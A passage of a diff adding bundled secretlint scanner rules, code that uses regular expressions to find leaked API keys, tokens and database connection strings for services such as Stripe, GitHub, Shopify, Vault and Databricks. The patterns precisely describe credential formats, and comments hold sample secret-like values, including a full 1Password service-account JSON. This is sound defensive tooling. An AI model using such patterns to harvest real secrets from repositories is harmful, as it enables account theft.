+    const SENDGRID_KEY_PATTERN = /(?<!\p{L})SG\.\w{1,128}\.\w{1,128}([-_]?)\w{1,128}(?!\w)/gu;
+    const results = source.content.matchAll(SENDGRID_KEY_PATTERN);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        if (match.length !== 69) {
+            // send grid api key is 69 characters long
+            continue;
+        }
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("SENDGRID_KEY", {
+                KEY: match,
+            }),
+            range,
+        });
+    }
+}
+const creator$g = {
+    messages: messages$f,
+    meta: {
+        id: "@secretlint/secretlint-rule-sendgrid",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-sendgrid/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$f);
+        const normalizedOptions = {
+            allows: options.allows || [],
+        };
+        return {
+            file(source) {
+                reportIfFoundKey$3({ source, options: normalizedOptions, context, t });
+            },
+        };
+    },
+};
+
+const messages$e = {
+    SHOPIFY_KEY: {
+        en: (props) => `found Shopify api key: ${props.KEY}`,
+        ja: (props) => `Shopify APIキーが見つかりました： ${props.KEY}`
+    }
+};
+function reportIfFoundKey$2({ source, options, context, t }) {
+    /**
+     * Source: https://shopify.dev/changelog/app-secret-key-length-has-increased
+     * for app secret keys
+     * shpss_[a-zA-Z0-9]{32,64}
+     * e.g.) shpss_QlRSJy5AXX1cILNjVatTsEIhFxuPF5ex
+     *
+     * Source: https://shopify.dev/changelog/length-of-the-shopify-access-token-is-increasing
+     * for public apps
+     * shpat_[a-zA-Z0-9]{32,64}
+     * e.g.) shpat_r8TRc9ZXAvcVvcrmtr7qoVw69WeeY1ex
+     *
+     * for custom apps
+     * shpca_[a-zA-Z0-9]{32,64}
+     * e.g.) shpca_7jqbg9cupMkZRxJKXWz3v8BvS8QBa7hMdJfAex
+     *
+     * for legacy private apps
+     * shppa_[a-zA-Z0-9]{32,64}
+     * e.g.) shppa_7jqbg9cupMkZRxJKXWz3v8BvS8QBa7hMdJfAex
+     */
+    const SHOPIFY_KEY_PATTERN = /(?<!\p{L})(shppa|shpca|shpat|shpss)_[a-zA-Z0-9]{32,64}(?![a-zA-Z0-9])/gu;
+    const results = source.content.matchAll(SHOPIFY_KEY_PATTERN);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("SHOPIFY_KEY", {
+                KEY: match
+            }),
+            range
+        });
+    }
+}
+const creator$f = {
+    messages: messages$e,
+    meta: {
+        id: "@secretlint/secretlint-rule-shopify",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-shopify/README.md"
+        }
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$e);
+        const normalizedOptions = {
+            allows: options.allows || []
+        };
+        return {
+            file(source) {
+                reportIfFoundKey$2({ source, options: normalizedOptions, context, t });
+            }
+        };
+    }
+};
+
+const messages$d = {
+    STRIPE_SECRET_KEY_LIVE: {
+        en: (props) => `found Stripe Live Secret Key: ${props.KEY}`,
+        ja: (props) => `Stripe Live Secret Keyが見つかりました: ${props.KEY}`,
+    },
+    STRIPE_SECRET_KEY_TEST: {
+        en: (props) => `found Stripe Test Secret Key: ${props.KEY}`,
+        ja: (props) => `Stripe Test Secret Keyが見つかりました: ${props.KEY}`,
+    },
+    STRIPE_RESTRICTED_KEY_LIVE: {
+        en: (props) => `found Stripe Live Restricted Key: ${props.KEY}`,
+        ja: (props) => `Stripe Live Restricted Keyが見つかりました: ${props.KEY}`,
+    },
+    STRIPE_RESTRICTED_KEY_TEST: {
+        en: (props) => `found Stripe Test Restricted Key: ${props.KEY}`,
+        ja: (props) => `Stripe Test Restricted Keyが見つかりました: ${props.KEY}`,
+    },
+};
+const messageIdMap$1 = {
+    sk_live: "STRIPE_SECRET_KEY_LIVE",
+    sk_test: "STRIPE_SECRET_KEY_TEST",
+    rk_live: "STRIPE_RESTRICTED_KEY_LIVE",
+    rk_test: "STRIPE_RESTRICTED_KEY_TEST",
+};
+// Stripe API key format: {prefix}_{24-99 alphanumeric chars}
+// Officially documented prefixes (https://docs.stripe.com/keys):
+// - sk_live_ : Live Secret Key
+// - sk_test_ : Test Secret Key
+// - rk_live_ : Live Restricted Key
+// - rk_test_ : Test Restricted Key
+//
+// Length lower bound (24):
+//   Stripe's documentation samples and historical key format use a 24-char body
+//   after the prefix. Issue #1531 also describes the format as "typically 24-32
+//   characters" after the prefix. Stripe does not publish a hard minimum, but
+//   24 reflects the smallest length seen in real keys; gitleaks uses 10 and
+//   TruffleHog uses 20, but those values produce more false positives.
+//   Tightening to 24 trades a (non-existent in practice) shorter key for fewer
+//   false positives.
+//
+// Length upper bound (99):
+//   Modern Stripe keys use an extended `51...` account-prefix encoding and run
+//   up to ~99 chars after the prefix. Matches gitleaks' upper bound.
+const STRIPE_KEY_PATTERN = /(?<!\p{L})(?<prefix>sk_live|sk_test|rk_live|rk_test)_[a-zA-Z0-9]{24,99}(?![a-zA-Z0-9])/gu;
+function reportIfFound$2({ source, options, context, t, }) {
+    const results = source.content.matchAll(STRIPE_KEY_PATTERN);
+    for (const result of results) {
+        const index = result.index ?? 0;
+        const match = result[0] ?? "";
+        const prefix = result.groups?.["prefix"];
+        if (!prefix) {
+            continue;
+        }
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t(messageIdMap$1[prefix], {
+                KEY: match,
+            }),
+            range,
+        });
+    }
+}
+const creator$e = {
+    messages: messages$d,
+    meta: {
+        id: "@secretlint/secretlint-rule-stripe",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-stripe/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$d);
+        const normalizedOptions = {
+            allows: options.allows ?? [],
+        };
+        return {
+            file(source) {
+                reportIfFound$2({ source, options: normalizedOptions, context, t });
+            },
+        };
+    },
+};
+
+const messages$c = {
+    GITHUB_TOKEN: {
+        en: (props) => `found GitHub Token(${props.typeName}): ${props.KEY}`,
+        ja: (props) => `GitHub Token(${props.typeName})が見つかりました： ${props.KEY}`,
+    },
+};
+// ghp for GitHub personal access tokens
+// gho for OAuth access tokens
+// ghu for GitHub user-to-server tokens
+// ghs for GitHub server-to-server tokens
+// ghr for refresh tokens
+// github_pat for fine-grained personal access tokens
+const typeMap = new Map([
+    ["ghp", "GitHub personal access tokens"],
+    ["gho", "OAuth access tokens"],
+    ["ghu", "GitHub user-to-server tokens"],
+    ["ghs", "GitHub server-to-server tokens"],
+    ["ghr", "refresh tokens"],
+    ["github_pat", "fine-grained personal access tokens"],
+]);
+function reportIfFoundKey$1({ pattern, source, options, context, t, }) {
+    const results = source.content.matchAll(pattern);
+    for (const result of results) {
+        const index = result.index || 0;
+        const type = result.groups?.type;
+        const typeName = typeMap.get(type);
+        if (!typeName) {
+            throw new Error("Unknown type:" + typeName);
+        }
+        const match = result[0] || "";
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("GITHUB_TOKEN", {
+                KEY: match,
+                typeName,
+            }),
+            range,
+        });
+    }
+}
+const creator$d = {
+    messages: messages$c,
+    meta: {
+        id: "@secretlint/secretlint-rule-github",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-github/README.md",
+        },
+    },
+    create(context, options) {
+        // token length should be 40
+        // https://github.blog/2021-04-05-behind-githubs-new-authentication-token-formats/
+        const CLASSIC_GITHUB_TOKEN_PATTERN = /(?<!\p{L})(?<type>ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9_]{36}(?![A-Za-z0-9_])/gu;
+        // fine-grained personal access tokens. FIXME: Format of the token is unclear
+        // https://github.com/community/community/discussions/36441#discussioncomment-4014190
+        const FINE_GRAINED_GITHUB_TOKEN_PATTERN = /(?<!\p{L})(?<type>github_pat)_[A-Za-z0-9_]{82}(?![A-Za-z0-9_])/gu;
+        // new format: ghs_<AppID>_<JWT> (~520 chars, JWT contains three base64url segments separated by dots)
+        // https://github.blog/changelog/2026-04-24-notice-about-upcoming-new-format-for-github-app-installation-tokens/
+        const GITHUB_APP_INSTALLATION_TOKEN_PATTERN = /(?<!\p{L})(?<type>ghs)_[0-9]{1,20}_[A-Za-z0-9_-]{1,1000}\.[A-Za-z0-9_-]{1,10000}\.[A-Za-z0-9_-]{1,1000}(?![A-Za-z0-9_-])/gu;
+        const patterns = [
+            CLASSIC_GITHUB_TOKEN_PATTERN,
+            FINE_GRAINED_GITHUB_TOKEN_PATTERN,
+            GITHUB_APP_INSTALLATION_TOKEN_PATTERN,
+        ];
+        const t = context.createTranslator(messages$c);
+        const normalizedOptions = {
+            allows: options.allows || [],
+        };
+        return {
+            file(source) {
+                for (const pattern of patterns) {
+                    reportIfFoundKey$1({ pattern, source, options: normalizedOptions, context, t });
+                }
+            },
+        };
+    },
+};
+
+const messages$b = {
+    GITLAB_PERSONAL_ACCESS_TOKEN: {
+        en: (props) => `found GitLab Personal Access Token: ${props.KEY}`,
+        ja: (props) => `GitLab Personal Access Tokenが見つかりました: ${props.KEY}`,
+    },
+};
+function reportIfFoundKey({ pattern, source, options, context, t, }) {
+    const results = source.content.matchAll(pattern);
+    for (const result of results) {
+        const index = result.index ?? 0;
+        const match = result[0] ?? "";
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("GITLAB_PERSONAL_ACCESS_TOKEN", {
+                KEY: match,
+            }),
+            range,
+        });
+    }
+}
+const creator$c = {
+    messages: messages$b,
+    meta: {
+        id: "@secretlint/secretlint-rule-gitlab",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-gitlab/README.md",
+        },
+    },
+    create(context, options) {
+        // GitLab Personal Access Token
+        // Prefix `glpat-` followed by 20–128 characters.
+        // Standard PATs are a fixed 20 characters. Routable tokens extend up to ~38 characters with a dot-suffix.
+        // - https://docs.gitlab.com/security/tokens/
+        // - https://docs.github.com/en/code-security/secret-scanning/introduction/supported-secret-scanning-patterns
+        const GITLAB_PERSONAL_ACCESS_TOKEN_PATTERN = /(?<!\p{L})glpat-[A-Za-z0-9_-]{20,128}(?![A-Za-z0-9_-])/gu;
+        const patterns = [GITLAB_PERSONAL_ACCESS_TOKEN_PATTERN];
+        const t = context.createTranslator(messages$b);
+        const normalizedOptions = {
+            allows: options.allows ?? [],
+        };
+        return {
+            file(source) {
+                for (const pattern of patterns) {
+                    reportIfFoundKey({ pattern, source, options: normalizedOptions, context, t });
+                }
+            },
+        };
+    },
+};
+
+const messages$a = {
+    GRAFANA_CLOUD_API_TOKEN: {
+        en: (props) => `found Grafana Cloud API token: ${props.TOKEN}`,
+        ja: (props) => `Grafana Cloud API トークン: ${props.TOKEN} がみつかりました`,
+    },
+    GRAFANA_SERVICE_ACCOUNT_TOKEN: {
+        en: (props) => `found Grafana Service Account token: ${props.TOKEN}`,
+        ja: (props) => `Grafana Service Account トークン: ${props.TOKEN} がみつかりました`,
+    },
+};
+function reportIfFound$1({ pattern, messageId, source, options, context, t, }) {
+    const results = source.content.matchAll(pattern);
+    for (const result of results) {
+        const index = result.index ?? 0;
+        const match = result[0] ?? "";
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        const range = [index, index + match.length];
+        context.report({
+            message: t(messageId, {
+                TOKEN: match,
+            }),
+            range,
+        });
+    }
+}
+const creator$b = {
+    messages: messages$a,
+    meta: {
+        id: "@secretlint/secretlint-rule-grafana",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-grafana/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$a);
+        const normalizedOptions = {
+            allows: options?.allows ?? [],
+        };
+        // Grafana Cloud API token
+        // Prefix: `glc_`, followed by base64-encoded JWT content.
+        // Real tokens start with `glc_eyJ` (the base64 prefix of `{"`).
+        // https://grafana.com/docs/grafana-cloud/account-management/authentication-and-permissions/api-keys/
+        const GRAFANA_CLOUD_API_TOKEN_PATTERN = /(?<!\p{L})glc_[A-Za-z0-9+/]{32,400}={0,2}(?![A-Za-z0-9+/=])/gu;
+        // Grafana Service Account token
+        // Prefix: `glsa_`, followed by 32 alphanumeric characters, an
+        // underscore, and an 8-character hex checksum.
+        // https://grafana.com/docs/grafana/latest/administration/service-accounts/
+        const GRAFANA_SERVICE_ACCOUNT_TOKEN_PATTERN = /(?<!\p{L})glsa_[A-Za-z0-9]{32}_[A-Fa-f0-9]{8}(?![A-Fa-f0-9])/gu;
+        return {
+            file(source) {
+                reportIfFound$1({
+                    pattern: GRAFANA_CLOUD_API_TOKEN_PATTERN,
+                    messageId: "GRAFANA_CLOUD_API_TOKEN",
+                    source,
+                    options: normalizedOptions,
+                    context,
+                    t,
+                });
+                reportIfFound$1({
+                    pattern: GRAFANA_SERVICE_ACCOUNT_TOKEN_PATTERN,
+                    messageId: "GRAFANA_SERVICE_ACCOUNT_TOKEN",
+                    source,
+                    options: normalizedOptions,
+                    context,
+                    t,
+                });
+            },
+        };
+    },
+};
+
+const messages$9 = {
+    OPS_TOKEN: {
+        en: (props) => `found 1Password Service Account token: ${props.TOKEN}`,
+        ja: (props) => `1Password Service Account: ${props.TOKEN} がみつかりました`,
+    },
+};
+const is1PasswordServiceAccountToken = (base64String) => {
+    try {
+        const jsonString = atob(base64String.replace(/-/g, "+").replace(/_/g, "/"));
+        const json = JSON.parse(jsonString);
+        return typeof json === "object" && json !== null;
+    }
+    catch (error) {
+        return false;
+    }
+};
+const creator$a = {
+    messages: messages$9,
+    meta: {
+        id: "@secretlint/secretlint-rule-1password",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-1password/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$9);
+        const normalizedOptions = {
+            allows: options?.allows ?? [],
+        };
+        return {
+            file(source) {
+                // 1Password Service Account format is `ops_<base64>`
+                // https://developer.1password.com/docs/service-accounts/security/
+                // It will be like ops_{"email":"ejwe64qmlxhri@1passwordserviceaccounts.lcl","muk":{"alg":"A256GCM","ext":true,"k":"M8VPfIc8VEfThcMXLaKCKF8sMh5JMZsPAtu92fQNb-o","key_ops":["encrypt","decrypt"],"kty":"oct","kid":"mp"},"secretKey":"A3-C4ZJMN-PQTZTL-HGL84-G64M7-KVZRN-4ZVP6","srpX":"870d67a9e626625d9e368507804c9c32e661c57e7e558778291bf29d5a279ae1","signInAddress":"gotham.b5local.com:4000","userAuth":{"method":"SRPg-4096","alg":"PBES2g-HS256","iterations":100000,"salt":"FMRUPiyrN4Xf_8Hoh6YRXQ"}}
+                // This regexp match `ops_{...}` pattern
+                const pattern = /(?<!\p{L})ops_(ey[A-Za-z0-9+/=]{100,1280}fQ={0,2})(?![A-Za-z0-9+/=])/gu;
+                const matches = source.content.matchAll(pattern);
+                for (const match of matches) {
+                    const index = match.index ?? 0;
+                    const matchString = match[0] ?? "";
+                    const base64String = match[1] ?? "";
+                    if (!is1PasswordServiceAccountToken(base64String)) {
+                        continue;
+                    }
+                    const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+                    if (allowedResults.length > 0) {
+                        continue;
+                    }
+                    const range = [index, index + matchString.length];
+                    context.report({
+                        message: t("OPS_TOKEN", {
+                            TOKEN: matchString,
+                        }),
+                        range,
+                    });
+                }
+            },
+        };
+    },
+};
+
+const messages$8 = {
+    MongoDBConnection: {
+        en: (props) => `found MongoDB connection string: ${props.URI}`,
+        ja: (props) => `MongoDB接続文字列: ${props.URI} がみつかりました`,
+    },
+    MySQLConnection: {
+        en: (props) => `found MySQL connection string: ${props.URI}`,
+        ja: (props) => `MySQL接続文字列: ${props.URI} がみつかりました`,
+    },
+    PostgreSQLConnection: {
+        en: (props) => `found PostgreSQL connection string: ${props.URI}`,
+        ja: (props) => `PostgreSQL接続文字列: ${props.URI} がみつかりました`,
+    },
+};
+// Common placeholder patterns that should be ignored to avoid false positives
+const BUILTIN_IGNORED_PATTERNS = [
+    "localhost",
+    "127.0.0.1",
+    "example.com",
+    "example.org",
+    "test.com",
+    "password",
+    "username",
+    "secret",
+    "mypassword",
+    "myusername",
+    "root",
+    "admin",
+    "user",
+    "pass",
+    "{password}",
+    "${password}",
+    "{{password}}",
+    "{username}",
+    "${username}",
+    "{{username}}",
+    "YOUR_PASSWORD",
+    "YOUR_USERNAME",
+    "REPLACE_WITH_PASSWORD",
+];
+/**
+ * Check if the string contains variable-like patterns that indicate it's likely a template
+ */
+function isVariableLikeString(str) {
+    // Check for common variable patterns with length limits to prevent ReDoS
+    const variablePatterns = [
+        /\$\{[^}]{1,50}\}/, // ${var}
+        /\{\{[^}]{1,50}\}\}/, // {{var}}
+        /\{[^}]{1,50}\}/, // {var}
+        /%[A-Z_]{1,30}%/, // %VAR%
+        /\$[A-Z_]{1,30}/, // $VAR
+        /\$\([^)]{1,50}\)/, // $(var)
+    ];
+    return variablePatterns.some((pattern) => pattern.test(str));
+}
+/**
+ * Check if the username and password look like real credentials
+ */
+function isLikelyRealCredential(username, password) {
+    // Skip example credentials that repeat the username as the password
+    if (username === password)
+        return false;
+    // Skip if it's too short or too simple
+    if (password.length < 4)
+        return false;
+    // Skip if it contains variable patterns
+    if (isVariableLikeString(password))
+        return false;
+    // Skip if it's exactly a common placeholder (not just contains it)
+    const passwordLower = password.toLowerCase();
+    if (BUILTIN_IGNORED_PATTERNS.some((pattern) => passwordLower === pattern.toLowerCase())) {
+        return false;
+    }
+    // Skip passwords that are too repetitive (same character repeated)
+    if (/^(.)\1{3,}$/.test(password))
+        return false; // e.g., "aaaa", "1111", "xxxx"
+    return true;
+}
+function reportMongoDBConnectionString({ source, options, context, t, }) {
+    // MongoDB URI patterns: mongodb:// and mongodb+srv://
+    // Captures: mongodb://[username:password@]host[:port][/database][?options]
+    // Using possessive quantifiers to prevent ReDoS
+    const MONGODB_PATTERN = /mongodb(?:\+srv)?:\/\/(?:(?<username>[^:\/\s]{1,100}):(?<password>[^@\/\s]{1,200})@)?(?<host>[^\/\s?]{1,100})(?:\/(?<database>[^?\s]{0,100}))?(?:\?(?<options>[^\s]{0,500}))?/gi;
+    const results = source.content.matchAll(MONGODB_PATTERN);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        const username = result.groups?.username;
+        const password = result.groups?.password;
+        // Skip if no credentials found
+        if (!username || !password)
+            continue;
+        // Skip if the credentials look like an example
+        if (!isLikelyRealCredential(username, password))
+            continue;
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("MongoDBConnection", {
+                URI: match,
+            }),
+            range,
+        });
+    }
+}
+function reportMySQLConnectionString({ source, options, context, t, }) {
+    // MySQL URI patterns: jdbc:mysql://, mysql://, mysqlx://
+    // Using possessive quantifiers to prevent ReDoS
+    const MYSQL_URI_PATTERN = /(?:jdbc:)?mysql(?:x)?:\/\/(?:(?<username>[^:\/\s]{1,100}):(?<password>[^@\/\s]{1,200})@)?(?<host>[^\/\s?]{1,100})(?:\/(?<database>[^?\s]{0,100}))?(?:\?(?<options>[^\s]{0,500}))?/gi;
+    const results = source.content.matchAll(MYSQL_URI_PATTERN);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        const username = result.groups?.username;
+        const password = result.groups?.password;
+        // Skip if no credentials found
+        if (!username || !password)
+            continue;
+        // Skip if the credentials look like an example
+        if (!isLikelyRealCredential(username, password))
+            continue;
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("MySQLConnection", {
+                URI: match,
+            }),
+            range,
+        });
+    }
+}
+function reportPostgreSQLConnectionString({ source, options, context, t, }) {
+    // PostgreSQL URI patterns: postgresql://, postgres://
+    // Using possessive quantifiers to prevent ReDoS
+    const POSTGRESQL_URI_PATTERN = /postgres(?:ql)?:\/\/(?:(?<username>[^:\/\s]{1,100}):(?<password>[^@\/\s]{1,200})@)?(?<host>[^\/\s?]{1,100})(?:\/(?<database>[^?\s]{0,100}))?(?:\?(?<options>[^\s]{0,500}))?/gi;
+    const results = source.content.matchAll(POSTGRESQL_URI_PATTERN);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        const username = result.groups?.username;
+        const password = result.groups?.password;
+        // Skip if no credentials found
+        if (!username || !password)
+            continue;
+        // Skip if the credentials look like an example
+        if (!isLikelyRealCredential(username, password))
+            continue;
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("PostgreSQLConnection", {
+                URI: match,
+            }),
+            range,
+        });
+    }
+}
+const creator$9 = {
+    messages: messages$8,
+    meta: {
+        id: "@secretlint/secretlint-rule-database-connection-string",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-database-connection-string/README.md",
+        },
+    },
+    create(context, options) {
+        const normalizedOptions = {
+            allows: options.allows || [],
+        };
+        const t = context.createTranslator(messages$8);
+        return {
+            file(source) {
+                reportMongoDBConnectionString({ source, options: normalizedOptions, context, t });
+                reportMySQLConnectionString({ source, options: normalizedOptions, context, t });
+                reportPostgreSQLConnectionString({ source, options: normalizedOptions, context, t });
+            },
+        };
+    },
+};
+
+const messages$7 = {
+    HASHICORP_VAULT_SERVICE_TOKEN: {
+        en: (props) => `found HashiCorp Vault service token: ${props.TOKEN}`,
+        ja: (props) => `HashiCorp Vault service token: ${props.TOKEN} がみつかりました`,
+    },
+    HASHICORP_VAULT_BATCH_TOKEN: {
+        en: (props) => `found HashiCorp Vault batch token: ${props.TOKEN}`,
+        ja: (props) => `HashiCorp Vault batch token: ${props.TOKEN} がみつかりました`,
+    },
+    HASHICORP_VAULT_RECOVERY_TOKEN: {
+        en: (props) => `found HashiCorp Vault recovery token: ${props.TOKEN}`,
+        ja: (props) => `HashiCorp Vault recovery token: ${props.TOKEN} がみつかりました`,
+    },
+};
+// HashiCorp Vault token formats (Vault 1.10+):
+// - Service token:  `hvs.` + 90..120 [A-Za-z0-9_-]
+// - Batch token:    `hvb.` + 138..300 [A-Za-z0-9_-]
+// - Recovery token: `hvr.` + 90..120 [A-Za-z0-9_-]
+// References:
+// - https://developer.hashicorp.com/vault/docs/concepts/tokens
+// - https://docs.github.com/en/code-security/secret-scanning/secret-scanning-patterns
+// - https://github.com/gitleaks/gitleaks/blob/master/config/gitleaks.toml
+//
+// Boundaries:
+// - Leading `(?<!\p{L})` prevents matching when the prefix is glued to another letter
+//   (e.g. `xhvs.`), while still allowing punctuation, digits, whitespace, and line starts.
+// - Trailing `(?![A-Za-z0-9_-])` anchors to the end of the token body.
+const serviceTokenPattern = /(?<!\p{L})hvs\.[A-Za-z0-9_-]{90,120}(?![A-Za-z0-9_-])/gu;
+const batchTokenPattern = /(?<!\p{L})hvb\.[A-Za-z0-9_-]{138,300}(?![A-Za-z0-9_-])/gu;
+const recoveryTokenPattern = /(?<!\p{L})hvr\.[A-Za-z0-9_-]{90,120}(?![A-Za-z0-9_-])/gu;
+const creator$8 = {
+    messages: messages$7,
+    meta: {
+        id: "@secretlint/secretlint-rule-hashicorp-vault",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-hashicorp-vault/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$7);
+        const normalizedOptions = {
+            allows: options?.allows ?? [],
+        };
+        const reportMatches = (source, pattern, messageId) => {
+            const matches = source.content.matchAll(pattern);
+            for (const match of matches) {
+                const index = match.index ?? 0;
+                const matchString = match[0] ?? "";
+                const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+                if (allowedResults.length > 0) {
+                    continue;
+                }
+                const range = [index, index + matchString.length];
+                context.report({
+                    message: t(messageId, {
+                        TOKEN: matchString,
+                    }),
+                    range,
+                });
+            }
+        };
+        return {
+            file(source) {
+                reportMatches(source, serviceTokenPattern, "HASHICORP_VAULT_SERVICE_TOKEN");
+                reportMatches(source, batchTokenPattern, "HASHICORP_VAULT_BATCH_TOKEN");
+                reportMatches(source, recoveryTokenPattern, "HASHICORP_VAULT_RECOVERY_TOKEN");
+            },
+        };
+    },
+};
+
+const messages$6 = {
+    VERCEL_PERSONAL_ACCESS_TOKEN: {
+        en: (props) => `found Vercel personal access token: ${props.ID}`,
+        ja: (props) => `Vercel personal access token: ${props.ID} がみつかりました`,
+    },
+    VERCEL_INTEGRATION_TOKEN: {
+        en: (props) => `found Vercel integration token: ${props.ID}`,
+        ja: (props) => `Vercel integration token: ${props.ID} がみつかりました`,
+    },
+    VERCEL_APP_ACCESS_TOKEN: {
+        en: (props) => `found Vercel app access token: ${props.ID}`,
+        ja: (props) => `Vercel app access token: ${props.ID} がみつかりました`,
+    },
+    VERCEL_APP_REFRESH_TOKEN: {
+        en: (props) => `found Vercel app refresh token: ${props.ID}`,
+        ja: (props) => `Vercel app refresh token: ${props.ID} がみつかりました`,
+    },
+    VERCEL_AI_GATEWAY_API_KEY: {
+        en: (props) => `found Vercel AI Gateway API key: ${props.ID}`,
+        ja: (props) => `Vercel AI Gateway API key: ${props.ID} がみつかりました`,
+    },
+};
+const prefixToMessageId = {
+    vcp: "VERCEL_PERSONAL_ACCESS_TOKEN",
+    vci: "VERCEL_INTEGRATION_TOKEN",
+    vca: "VERCEL_APP_ACCESS_TOKEN",
+    vcr: "VERCEL_APP_REFRESH_TOKEN",
+    vck: "VERCEL_AI_GATEWAY_API_KEY",
+};
+const creator$7 = {
+    messages: messages$6,
+    meta: {
+        id: "@secretlint/secretlint-rule-vercel",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-vercel/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$6);
+        const normalizedOptions = {
+            allows: options?.allows ?? [],
+        };
+        return {
+            file(source) {
+                const pattern = /(?<!\p{L})(?<prefix>vcp|vci|vca|vcr|vck)_[A-Za-z0-9]{20,60}(?![A-Za-z0-9])/gu;
+                const matches = source.content.matchAll(pattern);
+                for (const match of matches) {
+                    const index = match.index ?? 0;
+                    const matchString = match[0] ?? "";
+                    const prefix = match.groups?.prefix;
+                    const messageId = prefixToMessageId[prefix];
+                    const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+                    if (allowedResults.length > 0) {
+                        continue;
+                    }
+                    const range = [index, index + matchString.length];
+                    context.report({
+                        message: t(messageId, {
+                            ID: matchString,
+                        }),
+                        range,
+                    });
+                }
+            },
+        };
+    },
+};
+
+const messages$5 = {
+    DATABRICKS_PERSONAL_ACCESS_TOKEN: {
+        en: (props) => `found Databricks personal access token: ${props.ID}`,
+        ja: (props) => `Databricks personal access token: ${props.ID} がみつかりました`,
+    },
+};
+const creator$6 = {
+    messages: messages$5,
+    meta: {
+        id: "@secretlint/secretlint-rule-databricks",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-databricks/README.md",
+        },
+    },
+    create(context, options) {
+        const t = context.createTranslator(messages$5);
+        const normalizedOptions = {
+            allows: options?.allows ?? [],
+        };
+        return {
+            file(source) {
+                // Databricks personal access tokens:
+                // - Prefix: `dapi`
+                // - Body: 32 hexadecimal characters (Databricks issues lowercase,
+                //   but match case-insensitively to be lenient)
+                // - Optional suffix: `-<single digit>`
+                // Reference:
+                // - https://docs.databricks.com/aws/en/dev-tools/auth/pat
+                // - https://docs.github.com/en/code-security/secret-scanning/secret-scanning-patterns
+                const pattern = /(?<!\p{L})dapi[A-Fa-f0-9]{32}(?:-[0-9])?(?![A-Fa-f0-9])/gu;
+                const matches = source.content.matchAll(pattern);
+                for (const match of matches) {
+                    const index = match.index ?? 0;
+                    const matchString = match[0] ?? "";
+                    const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+                    if (allowedResults.length > 0) {
+                        continue;
+                    }
+                    const range = [index, index + matchString.length];
